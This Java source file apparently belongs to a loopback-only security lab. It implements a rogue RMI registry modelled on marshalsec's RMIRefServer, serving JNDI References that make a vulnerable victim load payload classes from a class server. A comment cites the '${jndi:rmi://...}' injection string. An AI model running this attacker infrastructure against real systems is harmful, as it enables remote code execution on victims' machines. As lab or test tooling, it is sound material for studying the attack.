import com.sun.jndi.rmi.registry.ReferenceWrapper;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.rmi.registry.LocateRegistry;
import java.rmi.registry.Registry;
import java.rmi.server.RMIServerSocketFactory;
import java.rmi.server.UnicastRemoteObject;
import javax.naming.Reference;

/**
 * The attacker's RMI registry for {@code ${jndi:rmi://127.0.0.1:1099/LabShell}}, as marshalsec's
 * {@code RMIRefServer}: a real {@code java.rmi} registry on 127.0.0.1:1099 where each payload
 * class name is bound to a {@code javax.naming.Reference} (factory = that class, factory
 * location = the class server), wrapped in the JDK's own {@code ReferenceWrapper} - the remote
 * object the JDK's RMI JNDI provider unwraps with {@code getReference()}. With
 * {@code com.sun.jndi.rmi.object.trustURLCodebase=true} the victim then loads the factory
 * class from the class server.
 *
 * <p>{@code ReferenceWrapper} is in {@code jdk.naming.rmi}, exported only to {@code java.rmi}:
 * compile and run with {@code --add-exports jdk.naming.rmi/com.sun.jndi.rmi.registry=ALL-UNNAMED}.
 * The registry and the wrappers share port 1099, so one counting socket factory sees every
 * connection the victim makes (each accept is an event).
 *
 * <p>Usage: {@code java --add-exports ... -cp CLASSES RogueRmiRegistry [--lifetime SECONDS]
 * [--exit-on-eof]}. A separate JVM from {@link LabServers}: RMI's runtime (its export threads,
 * its DGC) stays out of the other servers' way.
 */
public final class RogueRmiRegistry {
    private RogueRmiRegistry() {}

    static final int RMI_PORT = 1099;

    /** Keeps the exported objects reachable: RMI holds them weakly once unreferenced. */
    private static final java.util.List<Object> EXPORTED = new java.util.ArrayList<>();

    public static void main(String[] args) throws Exception {
        long lifetime = 900;
        boolean exitOnEof = false;
        for (int i = 0; i < args.length; i++) {
            switch (args[i]) {
                case "--lifetime" -> lifetime = Long.parseLong(args[++i]);
                case "--exit-on-eof" -> exitOnEof = true;
                default -> throw new IllegalArgumentException("unknown argument " + args[i]);
            }
        }
        Events.bounded(lifetime, exitOnEof);
        // Stubs carry this host: the victim must come back to loopback, never to a host name.
        System.setProperty("java.rmi.server.hostname", "127.0.0.1");
        String name = "rmi:" + RMI_PORT;
        CountingSocketFactory sockets = new CountingSocketFactory(name);
        Registry registry = LocateRegistry.createRegistry(RMI_PORT, null, sockets);
        EXPORTED.add(registry);
        String codebase = "http://127.0.0.1:" + LabServers.CLASS_PORT + "/";
        for (String payload : RogueLdapServer.PAYLOADS) {
            ReferenceWrapper wrapper =
                    new ReferenceWrapper(new Reference("LabPayload", payload, codebase));
            // The constructor exported it on a random port; move it next to the registry.
            UnicastRemoteObject.unexportObject(wrapper, true);
            UnicastRemoteObject.exportObject(wrapper, RMI_PORT, null, sockets);
            registry.bind(payload, wrapper);
            EXPORTED.add(wrapper);
        }
        Events.ready(name, "127.0.0.1:" + RMI_PORT);
        Events.line("servers ready");
        Thread.currentThread().join();
    }

    /** Loopback server sockets whose accepts are events. One instance: RMI shares its port. */
    private static final class CountingSocketFactory implements RMIServerSocketFactory {
        private final String name;

        CountingSocketFactory(String name) {
            this.name = name;
        }

        @Override
        public ServerSocket createServerSocket(int port) throws IOException {
            return new ServerSocket(port, 50, InetAddress.getLoopbackAddress()) {
                @Override
                public Socket accept() throws IOException {
                    Socket socket = super.accept();
                    Events.emit(name, "accept", socket.getRemoteSocketAddress());
                    return socket;
                }
            };
        }
    }
}
